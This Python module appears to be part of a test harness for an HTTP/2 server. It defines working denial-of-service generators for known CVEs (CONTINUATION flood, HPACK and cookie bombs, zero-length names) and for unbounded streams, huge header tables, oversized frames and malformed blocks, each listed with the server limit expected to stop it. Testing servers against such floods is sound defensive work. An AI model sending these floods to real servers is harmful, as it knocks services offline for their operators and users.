"""Attacks by header blocks, identifiers and sizes (design notes: attack table)."""
import frames as f
from attacks import Flood, repeat

ES, EH = f.END_STREAM, f.END_HEADERS
FIELDS, RESETS = "kHeaderBytesMax", "kResetsBurst"
START = f.block(*f.request())


def continuation_flood(payload):
    """CVE-2024-28182: a header block that never ends."""
    def steps(_server):
        yield f.headers(1, START, ES)
        while True:
            yield f.frame(f.CONTINUATION, 0, 1, payload)
    return steps


def bomb(_server):
    """CVE-2016-6581: one field of 4,000 bytes in the table, then 12,000 references to it."""
    for n in range(10_000):
        first = f.indexed_literal("x", "v" * 4000) if n == 0 else b""
        yield f.headers(f.client_id(n), START + first + f.index(62) * 12_000)


def cookie_bomb(_server):
    """CVE-2016-1544's like: crumbs of cookies that are put together."""
    for n in range(10_000):
        first = f.indexed_literal("cookie", "v" * 4000) if n == 0 else b""
        yield f.headers(f.client_id(n), START + first + f.index(62) * 12_000)


def many_fields(count):
    """So many small fields in each request."""
    block = START + f.index(62) * count
    return lambda _server: (
        f.headers(f.client_id(n), (f.indexed_literal("a", "") if n == 0 else b"") + START
                  + f.index(62) * min(count, 16000) if n == 0 else block)
        for n in range(10_000))


def lower_id(_server):
    """A stream that has been skipped."""
    yield f.get(9)
    yield f.get(3)


def streams_without_limit(_server):
    """Requests whose bodies never come."""
    n = 0
    while True:
        yield f.post(f.client_id(n), "/ingest/v1/readings", _server.authorization,
                     ("content-type", "text/csv"))
        n += 1


def huge_table(server):
    """A table of 4 GiB for what the server encodes, and requests whose answers would fill it."""
    yield f.settings((f.HEADER_TABLE_SIZE, 2**32 - 1))
    for n in range(500):
        yield f.get(f.client_id(n), f"/{n}", server.authorization)


def small_requests(_server):
    """Requests of nothing but the tables: the cheapest there are. It is served: no limit is hit."""
    yield f.headers(1, f.index(2) + f.index(7) + f.index(4) + f.indexed_literal(":authority", "a"))
    for n in range(1, 300):
        yield f.headers(f.client_id(n), f.index(2) + f.index(7) + f.index(4) + f.index(62))


FLOODS = [
    Flood("CONTINUATION (CVE-2024-28182)", "nghttp2: 8", continuation_flood(f.block(("a", "b")))),
    Flood("empty CONTINUATION", "nghttp2: 8", continuation_flood(b"")),
    Flood("zero-length names (CVE-2019-9516)", RESETS,
          repeat(lambda n: f.get(f.client_id(n), "/", *[("", "")] * 500))),
    Flood("HPACK bomb (CVE-2016-6581)", "kBombFactor, " + RESETS, bomb),
    Flood("HPACK bomb of cookies", "kBombFactor, " + RESETS, cookie_bomb),
    Flood("16,000 fields in a frame", "kHeaderFieldsMax, " + RESETS, many_fields(16_000)),
    Flood("a field of 16 KB, nine frames", "nghttp2, " + RESETS, repeat(
        lambda n: f.headers(f.client_id(n), START + f.block(("x", "y" * 16000)), ES) + b"".join(
            f.frame(f.CONTINUATION, EH if i == 6 else 0, f.client_id(n),
                    f.block((f"x{i}", "y" * 16000))) for i in range(7)))),
    Flood("streams without limit", "kStreamsMax", streams_without_limit),
    Flood("a lower stream id", "skipped ids", lower_id),
    Flood("a huge header table", "nghttp2: 4,096", huge_table, is_harmless=True),
    Flood("requests of the tables only", "served", small_requests, is_harmless=True),
    Flood("a frame of 16 MiB", "SETTINGS_MAX_FRAME_SIZE",
          repeat(lambda n: b"\xff\xff\xff\x00\x00\x00\x00\x00\x01" + b"x" * 16384)),
    Flood("a header block that does not decode", "COMPRESSION_ERROR",
          repeat(lambda n: f.headers(f.client_id(n), b"\xff\xff\xff\xff\xff\xff"))),
    Flood("random bytes", "nghttp2", repeat(lambda n: bytes((n * 7 + i * 13) % 256
                                                           for i in range(997)))),
]
